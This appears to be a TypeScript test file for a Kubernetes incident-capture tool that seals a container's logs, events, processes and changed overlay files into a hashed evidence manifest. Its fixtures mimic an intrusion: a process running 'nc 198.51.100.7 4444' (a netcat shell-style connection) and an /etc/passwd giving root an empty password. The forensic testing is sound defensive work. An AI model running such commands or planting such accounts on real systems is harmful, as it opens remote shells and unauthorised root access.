import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { readAll } from '@icecore/bytes';
import { type Manifest, objectKeys, parseManifest } from '@icecore/evidence';
import { containerIdOf, recordedCheckpointer, type Rehearsal, startRehearsal } from './index.ts';
import { evidenceFaults } from './evidence-check.test-support.ts';
import { capturingPolicy, falcoAlert, recordedArchive } from './samples.test-support.ts';

let rehearsal: Rehearsal;
let host = '';
const put = (path: string, text: string): void => {
  mkdirSync(dirname(join(host, path)), { recursive: true });
  writeFileSync(join(host, path), text);
};
/** A process as `/proc` shows it (proc_pid_stat(5), proc_pid_status(5)); its name may have brackets and blanks. */
function process(pid: number, namespacePid: number, comm: string, commandLine: readonly string[], startTime: number): void {
  put(`proc/${pid}/stat`, `${pid} (${comm}) S ${Array.from({ length: 18 }, () => '0').join(' ')} ${startTime} 0 0\n`);
  put(`proc/${pid}/status`, `Name:\t${comm}\nNSpid:\t${pid}\t${namespacePid}\n`);
  put(`proc/${pid}/cmdline`, commandLine.map((word) => `${word}\0`).join(''));
}

async function sealed(pod: string): Promise<{ readonly manifest: Manifest; readonly side: (name: string) => Promise<string> }> {
  const captures = await rehearsal.until((all) => all.some(({ spec, metadata, status }) => spec.target.pod === pod && status.phase === 'sealed' && metadata.finalizers?.length === 0));
  const key = captures.find(({ spec }) => spec.target.pod === pod)?.status.vault?.key ?? '';
  const read = async (object: string): Promise<Uint8Array> => readAll(await rehearsal.vault.open(object));
  const manifest = parseManifest(await read(objectKeys.manifest(key)));
  return {
    manifest,
    async side(name) {
      const entry = manifest.side.find((each) => each.key.endsWith(`/${name}`));
      if (entry === undefined) throw new Error(`the manifest has no ${name}, but ${manifest.side.map((each) => each.key).join(', ')}`);
      const bytes = await read(entry.key);
      expect([entry.bytes, entry.sha256]).toEqual([bytes.length, createHash('sha256').update(bytes).digest('hex')]);
      return Buffer.from(bytes).toString('latin1');
    },
  };
}

const id = containerIdOf('shop', 'one', 'app');
beforeAll(async () => {
  rehearsal = await startRehearsal({ policy: capturingPolicy(), checkpointer: recordedCheckpointer(recordedArchive, () => 100), log: (_namespace, pod) => `2026-11-23T07:26:29Z stdout F counter of ${pod}\n` });
  host = join(rehearsal.folder, 'host');
  put(`sys/fs/cgroup/kubepods.slice/kubepods-burstable.slice/cri-containerd-${id}.scope/cgroup.procs`, '4711\n4712\n');
  put(`sys/fs/cgroup/kubepods.slice/kubepods-burstable.slice/cri-containerd-${id}.scope/memory.current`, '8388608\n');
  process(4711, 1, 'counter', ['/bin/sh', '/counter.sh'], 100);
  process(4712, 27, 'odd) (name', ['sh', '-c', 'nc 198.51.100.7 4444'], 200);
  put('proc/4711/mountinfo', '600 500 0:90 / / rw,relatime - overlay overlay rw,lowerdir=/l,upperdir=/var/lib/containerd/upper,workdir=/w\n');
  put('var/lib/containerd/upper/etc/passwd', 'root::0:0::/:/bin/sh\n');
  put('var/lib/containerd/upper/tmp/.large', '');
  truncateSync(join(host, 'var/lib/containerd/upper/tmp/.large'), 17 << 20);
  symlinkSync('/etc/passwd', join(host, 'var/lib/containerd/upper/tmp/link'));
  const { store } = rehearsal.api;
  rehearsal.addPod({ namespace: 'shop', name: 'one', containers: ['app'] });
  rehearsal.addPod({ namespace: 'shop', name: 'two', containers: ['app'] });
  store.create(store.resource('', 'v1', 'events')!, 'shop', { metadata: { name: 'one.1', namespace: 'shop' }, involvedObject: { kind: 'Pod', name: 'one', namespace: 'shop' }, reason: 'Pulled', message: 'image pulled' });
  const [alerts, node] = [rehearsal.start('alerts'), rehearsal.start('node', { ICECORE_HOST_ROOT: host })];
  const { url } = await alerts.ready;
  await node.ready;
  for (const pod of ['one', 'two']) await fetch(`${url}/alerts`, { method: 'POST', body: falcoAlert('shop', pod, 'app'), headers: { 'content-type': 'application/json', authorization: `Bearer ${rehearsal.token}` } });
});
afterAll(() => rehearsal.stop());

describe('what a checkpoint misses', () => {
  it('is sealed beside it, each a hashed entry of the manifest', async () => {
    const { manifest, side } = await sealed('one');
    expect(manifest.side.map(({ key, kind }) => [key.slice(key.lastIndexOf('/') + 1), kind])).toEqual([
      ['changed-files-left-out.json', 'changed files that were not taken, and why'],
      ['changed-files.tar', 'files that the container changed, from its overlay'],
      ['container.log', 'log of the container'],
      ['events.json', 'events of the pod'],
      ['node-processes.json', 'processes of the container’s cgroup that the node saw before the freeze and after it'],
      ['node.json', 'node, as the Kubernetes API had it'],
      ['pod.json', 'pod, as the Kubernetes API had it before the freeze'],
    ]);
    expect(manifest.gaps).toEqual([]);
    expect(manifest.where).toMatchObject({ node: 'lab-node', pod: 'one', containerId: id, image: 'localhost/lab:1', imageDigest: `sha256:${'ab'.repeat(32)}` });
    expect(JSON.parse(await side('pod.json'))).toMatchObject({ kind: 'Pod', metadata: { name: 'one' }, spec: { nodeName: 'lab-node' } });
    expect(JSON.parse(await side('node.json'))).toMatchObject({ status: { nodeInfo: { kubeletVersion: 'v1.36.2' } } });
    expect(JSON.parse(await side('events.json'))).toMatchObject([{ reason: 'Pulled' }]);
    expect(await side('container.log')).toContain('counter of one');
  });

  it('is a process that kubectl exec started, by its pid in the container and its command line', async () => {
    const { side } = await sealed('one');
    expect(JSON.parse(await side('node-processes.json'))).toEqual([
      { pid: 4711, namespacePid: 1, startTime: '100', comm: 'counter', commandLine: '/bin/sh /counter.sh' },
      { pid: 4712, namespacePid: 27, startTime: '200', comm: 'odd) (name', commandLine: 'sh -c nc 198.51.100.7 4444' },
    ]);
  });

  it('is what the container changed in files that it had', async () => {
    const { side } = await sealed('one');
    const tar = Buffer.from(await side('changed-files.tar'), 'latin1');
    expect(execFileSync('tar', ['-tf', '-'], { input: tar, encoding: 'utf8' }).trim().split('\n')).toEqual(['etc', 'etc/passwd', 'tmp', 'tmp/link']);
    expect(execFileSync('tar', ['-xOf', '-', 'etc/passwd'], { input: tar, encoding: 'utf8' })).toBe('root::0:0::/:/bin/sh\n');
    expect(JSON.parse(await side('changed-files-left-out.json'))).toEqual([`tmp/.large: ${17 << 20} bytes`]);
  });

  it('is said where it could not be seen', async () => {
    const { manifest } = await sealed('two');
    expect(manifest.gaps).toEqual([
      { code: 'not_captured', subject: 'changed-files.tar', reason: expect.any(String) },
      { code: 'not_captured', subject: 'node-processes.json', reason: expect.any(String) },
    ]);
    expect(await evidenceFaults(rehearsal, rehearsal.captures())).toEqual([]);
  });
});
